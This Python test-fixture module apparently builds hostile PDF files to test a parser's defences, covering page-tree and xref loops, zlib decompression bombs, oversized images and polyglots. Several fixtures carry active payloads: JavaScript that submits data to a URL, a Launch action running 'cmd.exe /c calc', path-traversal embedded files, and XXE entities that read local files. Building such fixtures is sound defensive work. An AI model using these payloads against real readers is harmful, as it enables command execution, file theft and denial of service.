"""PDF: loops where trees belong, streams that swell, actions that reach out."""

from __future__ import annotations

import io
import struct
import zlib

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from tests.support.hostile.archives import MB, Entry, raw_zip, zipped, zlib_bomb
from tests.support.hostile.trap import Trap, hostile, same

_CATALOG = "<</Type/Catalog/Pages 2 0 R>>"
_PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>"
_FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_SHOWN = b"BT /F1 12 Tf 72 700 Td (words) Tj ET"


def stream(data: bytes, extra: str = "", length: int | None = None) -> bytes:
    size = len(data) if length is None else length
    return f"<<{extra}/Length {size}>>stream\n".encode() + data + b"\nendstream"


def pdf(objects: dict[int, str | bytes], trailer: str = "") -> bytes:
    """Objects by number; those that every PDF needs are there already."""
    page = (
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
        "/Resources<</Font<</F1 5 0 R>>>>>>"
    )
    usual: dict[int, str | bytes] = {1: _CATALOG, 2: _PAGES, 3: page, 4: stream(_SHOWN), 5: _FONT}
    body, places = bytearray(b"%PDF-1.7\n"), {}
    for number, content in sorted((usual | objects).items()):
        places[number] = len(body)
        data = content.encode() if isinstance(content, str) else content
        body += b"%d 0 obj\n" % number + data + b"\nendobj\n"
    start, size = len(body), max(places) + 1
    body += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        place = places.get(number)
        body += b"%010d 00000 n \n" % place if place else b"0000000000 65535 f \n"
    body += f"trailer\n<</Size {size}/Root 1 0 R{trailer}>>\nstartxref\n{start}\n%%EOF".encode()
    return bytes(body)


def page(extra: str, box: str = "0 0 612 792", contents: str = "4 0 R") -> str:
    return (
        f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents {contents}"
        f"/Resources<</Font<</F1 5 0 R>>>>{extra}>>"
    )


hostile("kids-loop.pdf")(lambda _: pdf({2: "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"}))
hostile("kids-cycle.pdf")(
    lambda _: pdf(
        {
            2: "<</Type/Pages/Kids[6 0 R]/Count 1>>",
            6: "<</Type/Pages/Parent 2 0 R/Kids[7 0 R 7 0 R]/Count 99999999>>",
            7: "<</Type/Pages/Parent 6 0 R/Kids[6 0 R 6 0 R]/Count 99999999>>",
        }
    )
)


@hostile("kids-deep.pdf")
def _(_: Trap) -> bytes:
    tree: dict[int, str | bytes] = {
        n: f"<</Type/Pages/Parent {n - 1} 0 R/Kids[{n + 1} 0 R]/Count 1>>" for n in range(6, 20_000)
    }
    return pdf({2: "<</Type/Pages/Kids[6 0 R]/Count 1>>", 20_000: page(""), **tree})


hostile("count.pdf")(lambda _: pdf({2: "<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"}))
hostile("negative.pdf")(lambda _: pdf({2: "<</Type/Pages/Kids[3 0 R]/Count -1>>"}))
hostile("same-page.pdf")(
    lambda trap: pdf(
        {2: f"<</Type/Pages/Kids[{'3 0 R ' * 100_000}]/Count {trap.size(100_000, 100_000)}>>"}
    )
)
hostile("pages.pdf")(
    lambda trap: pdf(
        {
            2: f"<</Type/Pages/Kids[{' '.join(f'{n} 0 R' for n in range(6, trap.size(100_006, 20_006)))}]"
            f"/Count {trap.size(100_000, 20_000)}>>",
            **{n: page("") for n in range(6, trap.size(100_006, 20_006))},
        }
    )
)
hostile("prev-loop.pdf")(lambda _: pdf({}, trailer="/Prev 9").replace(b"/Prev 9", b"/Prev 900"))


@hostile("xref-loop.pdf")
def _(_: Trap) -> bytes:
    """The table that comes before this one is this one."""
    whole = pdf({}, trailer="/Prev 1234567890")
    start = int(whole.rpartition(b"startxref\n")[2].split()[0])
    return whole.replace(b"1234567890", b"%010d" % start)


@hostile("xref-stream-loop.pdf")
def _(_: Trap) -> bytes:
    body = b"%PDF-1.7\n"
    table = stream(b"\0" * 99, f"/Type/XRef/W[1 2 1]/Size 9/Root 1 0 R/Prev {len(body)}")
    return body + b"7 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(body)


same(
    "xref-widths.pdf",
    b"%PDF-1.7\n7 0 obj\n"
    + stream(
        b"\xff" * 99, "/Type/XRef/W[9999999 9 9]/Size 2147483647/Index[0 2147483647]/Root 1 0 R"
    )
    + b"\nendobj\nstartxref\n9\n%%EOF",
)
hostile("xref-wrong.pdf")(lambda _: pdf({}).replace(b"0000000", b"9999999"))
hostile("no-xref.pdf")(lambda _: pdf({}).partition(b"xref\n")[0])
same("head-only.pdf", b"%PDF-1.7\n")
same("late-head.pdf", b"\0" * 1010 + b"%PDF-1.7")
hostile("truncated.pdf")(lambda _: pdf({})[:300])
hostile("no-end.pdf")(lambda _: pdf({4: stream(_SHOWN).replace(b"endstream", b"")}))
hostile("length.pdf")(lambda _: pdf({4: stream(_SHOWN, length=2_147_483_647)}))
hostile("length-loop.pdf")(
    lambda _: pdf({4: b"<</Length 4 0 R>>stream\n" + _SHOWN + b"\nendstream"})
)

_FLATE = "/Filter/FlateDecode"
hostile("flate.pdf")(lambda _: pdf({4: stream(zlib_bomb(b" " * MB, 900), _FLATE)}))
hostile("flate-twice.pdf")(
    lambda _: pdf(
        {4: stream(zlib.compress(zlib_bomb(b" " * MB, 2000)), "/Filter[/FlateDecode/FlateDecode]")}
    )
)
hostile("filters.pdf")(
    lambda _: pdf({4: stream(b"78da", "/Filter[" + "/ASCIIHexDecode" * 9999 + "]")})
)
hostile("run-length.pdf")(
    lambda _: pdf({4: stream(b"\x81 " * (4 * MB), "/Filter/RunLengthDecode")})
)
hostile("predictor.pdf")(
    lambda _: pdf(
        {
            4: stream(
                zlib_bomb(bytes(MB), 9), _FLATE + "/DecodeParms<</Predictor 15/Columns 2147483647>>"
            )
        }
    )
)
hostile("text.pdf")(
    lambda trap: pdf({4: stream(zlib_bomb(_SHOWN * 20_000, trap.size(100, 20)), _FLATE)})
)
hostile("states.pdf")(lambda _: pdf({4: stream(zlib_bomb(b"q " * 500_000, 10), _FLATE)}))
hostile("numbers.pdf")(lambda _: pdf({4: stream(zlib_bomb(b"9" * MB, 50), _FLATE)}))
hostile("glyphs.pdf")(
    lambda _: pdf({4: stream(b"BT /F1 1 Tf (" + b"words " * 300_000 + b") Tj ET")})
)
hostile("object-stream.pdf")(
    lambda _: pdf(
        {6: stream(zlib_bomb(b"9 " * 500_000, 300), "/Type/ObjStm/N 2147483647/First 9" + _FLATE)}
    )
)


@hostile("object-streams.pdf")
def _(_: Trap) -> bytes:
    """Everything lies in a stream of objects that lies in itself."""
    objects = stream(b"6 0 7 9 " + b"<<>> " * 99, "/Type/ObjStm/N 2/First 8/Extends 6 0 R")
    return pdf({6: objects}, trailer="/XRefStm 9")


hostile("media-box.pdf")(lambda _: pdf({3: page("", box="0 0 1000000000 1000000000")}))
hostile("media-box-odd.pdf")(
    lambda _: pdf({3: page("/UserUnit 99999999/Rotate 99999", box="-1e38 1e38 nan (a)")})
)
hostile("arrays.pdf")(lambda _: pdf({3: page(f"/X{'[' * 100_000}")}))
hostile("dictionaries.pdf")(lambda _: pdf({3: page("/X<<" * 100_000)}))
hostile("contents-loop.pdf")(
    lambda _: pdf({3: page("", contents="[6 0 R]"), 6: "[6 0 R 6 0 R 4 0 R]"})
)


@hostile("form-loop.pdf")
def _(_: Trap) -> bytes:
    """A drawing that draws itself, twice."""
    form = "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    return pdf(
        {
            3: page("").replace("/Resources<<", "/Resources<</XObject<</X 6 0 R>>"),
            4: stream(b"/X Do " * 99),
            6: stream(b"/X Do /X Do", form),
        }
    )


@hostile("forms.pdf")
def _(_: Trap) -> bytes:
    """Each drawing draws the next one twenty times."""

    def form(number: int) -> bytes:
        extra = f"/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {number + 1} 0 R>>/Font<</F1 5 0 R>>>>"
        return stream(b"/X Do " * 20 + _SHOWN, extra)

    return pdf(
        {
            3: page("").replace("/Resources<<", "/Resources<</XObject<</X 6 0 R>>"),
            4: stream(b"/X Do"),
            **{n: form(n) for n in range(6, 20)},
        }
    )


hostile("type3.pdf")(
    lambda _: pdf(
        {
            5: "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 0"
            "/LastChar 255/CharProcs<</w 6 0 R>>/Encoding<</Differences[0/w]>>"
            "/Resources<</Font<</F1 5 0 R>>>>>>",
            6: stream(b"BT /F1 1 Tf (wwww) Tj ET"),
        }
    )
)
hostile("to-unicode.pdf")(
    lambda _: pdf(
        {
            5: _FONT[:-2] + "/ToUnicode 6 0 R>>",
            6: stream(
                zlib_bomb(b"1 beginbfrange <0000> <ffffffff> <0041> endbfrange\n" * 999, 99), _FLATE
            ),
        }
    )
)
hostile("font-file.pdf")(
    lambda _: pdf(
        {
            5: "<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor 6 0 R>>",
            6: "<</Type/FontDescriptor/FontName/A/FontFile2 7 0 R>>",
            7: stream(b"\0\1\0\0\xff\xff" + b"\xff" * 9999),
        }
    )
)


def image(width: int, height: int, data: bytes, extra: str) -> bytes:
    """A page that is a picture."""
    head = f"/Subtype/Image/Width {width}/Height {height}/BitsPerComponent 1/ColorSpace/DeviceGray"
    return pdf(
        {
            3: page("").replace("/Resources<<", "/Resources<</XObject<</X 6 0 R>>"),
            4: stream(b"612 0 0 792 0 0 cm /X Do"),
            6: stream(data, head + extra),
        }
    )


_JBIG2 = b"\0\0\0\0\x30\0\1\0\0\0\x13" + struct.pack("!4LBH", 0xFFFFFFF0, 0xFFFFFFF0, 0, 0, 0, 0)
hostile("jbig2.pdf")(lambda _: image(65_535, 65_535, _JBIG2, "/Filter/JBIG2Decode"))
hostile("jpx.pdf")(
    lambda _: image(60_000, 60_000, b"\0\0\0\x0cjP  \r\n\x87\n" + b"\xff" * 99, "/Filter/JPXDecode")
)
hostile("fax.pdf")(
    lambda _: image(
        60_000,
        60_000,
        b"\0" * 99,
        "/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000/Rows 60000>>",
    )
)
hostile("image-bomb.pdf")(lambda _: image(60_000, 60_000, zlib_bomb(bytes(MB), 430), _FLATE))
hostile("image-limits.pdf")(lambda _: image(2_147_483_647, 2_147_483_647, b"", ""))

hostile("actions.pdf")(
    lambda trap: pdf(
        {
            1: "<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 7 0 R>>/URI<</Base"
            f"({trap.url})>>/Names<</JavaScript<</Names[(a)6 0 R]>>/EmbeddedFiles<</Names[(a)9 0 R]>>>>>>",
            3: page("/AA<</O 7 0 R>>/Annots[8 0 R]"),
            6: f"<</S/JavaScript/JS(app.launchURL\\('{trap.url}'\\);this.submitForm\\('{trap.url}'\\))>>",
            7: f"<</S/Launch/F({trap.secret})/Win<</F(cmd.exe)/P(/c calc)>>/Next 7 0 R>>",
            8: "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/D[0/Fit]/F<</FS/URL/F"
            f"({trap.url})>>/Next<</S/SubmitForm/F({trap.url})/Next<</S/GoToE/F({trap.secret})>>>>>>>>",
            9: f"<</Type/Filespec/F(../../..{trap.folder}/evil.txt)/EF<</F 10 0 R>>>>",
            10: stream(b"evil", "/Type/EmbeddedFile"),
        }
    )
)
hostile("external.pdf")(
    lambda trap: pdf(
        {
            4: f"<</Length 0/F({trap.secret})/FFilter/FlateDecode>>stream\n\nendstream",
            3: page("").replace("/Resources<<", "/Resources<</XObject<</X 6 0 R>>"),
            6: f"<</Subtype/Form/BBox[0 0 9 9]/Length 0/Ref<</F({trap.url})/Page 0>>"
            f"/F<</FS/URL/F({trap.url})>>>>stream\n\nendstream",
        }
    )
)
hostile("xfa.pdf")(
    lambda trap: pdf(
        {
            1: "<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 6 0 R/Fields[7 0 R]>>>>",
            6: stream(f'<!DOCTYPE x [<!ENTITY e SYSTEM "{trap.file_url}">]><x>&e;</x>'.encode()),
            7: "<</FT/Tx/T(a)/V(words)/Kids[7 0 R]/Parent 7 0 R>>",
        }
    )
)
hostile("metadata.pdf")(
    lambda trap: pdf(
        {
            1: "<</Type/Catalog/Pages 2 0 R/Metadata 6 0 R>>",
            6: stream(
                f'<!DOCTYPE x [<!ENTITY e SYSTEM "{trap.file_url}">]><x>&e;</x>'.encode(),
                "/Type/Metadata",
            ),
            7: f"<</Title({'t' * MB})/Author(\xfe\xff\xd8)/CreationDate(D:99999999999999+99'99')>>",
        },
        trailer="/Info 7 0 R",
    )
)
hostile("outlines.pdf")(
    lambda _: pdf(
        {
            1: "<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R/PageMode/UseOutlines>>",
            6: "<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 99999999>>",
            7: "<</Title(loop)/Parent 6 0 R/Next 7 0 R/Prev 7 0 R/First 7 0 R/Dest[3 0 R/Fit]>>",
        }
    )
)
hostile("annotations.pdf")(
    lambda _: pdf(
        {
            3: page(f"/Annots[{'6 0 R ' * 200_000}]"),
            6: "<</Type/Annot/Subtype/FreeText/Contents(words)/Rect[0 0 9 9]/Parent 6 0 R>>",
        }
    )
)
hostile("labels.pdf")(
    lambda _: pdf(
        {
            1: "<</Type/Catalog/Pages 2 0 R/PageLabels 6 0 R/Names<</Dests 6 0 R>>/StructTreeRoot 7 0 R>>",
            6: "<</Kids[6 0 R 6 0 R]/Limits[(a)(z)]>>",
            7: "<</Type/StructTreeRoot/K[7 0 R 7 0 R]>>",
        }
    )
)


@hostile("password.pdf")
def _(_: Trap) -> bytes:
    held = io.BytesIO()
    canvas = Canvas(held, encrypt=StandardEncryption("secret", strength=128))
    canvas.drawString(72, 700, "words")
    canvas.save()
    return held.getvalue()


hostile("encrypt-odd.pdf")(
    lambda _: pdf(
        {6: "<</Filter/Evil/V 99/R 99/O()/U()/P -1/Length 2147483640>>"}, trailer="/Encrypt 6 0 R"
    )
)
hostile("encrypt-loop.pdf")(lambda _: pdf({6: "6 0 R"}, trailer="/Encrypt 6 0 R"))

# Two formats in one file.
hostile("zip.pdf")(lambda _: pdf({}) + raw_zip([Entry(b"a.txt", b"words")]))
hostile("pdf.zip")(lambda _: zipped({"a.txt": "words"}) + pdf({}))
hostile("pdf.html")(lambda _: b"<html><!--\n" + pdf({}) + b"--><p>words</p></html>")
hostile("pdf.docx")(lambda _: pdf({}) + zipped({"[Content_Types].xml": "<Types/>", "word/a": ""}))
hostile("pdf.png")(lambda _: b"\x89PNG\r\n\x1a\n" + pdf({}))
hostile("pdf.txt")(lambda _: pdf({}))
hostile("picture.pdf")(lambda _: b"\xff\xd8\xff\xe0" + b"\0" * 99 + pdf({}))
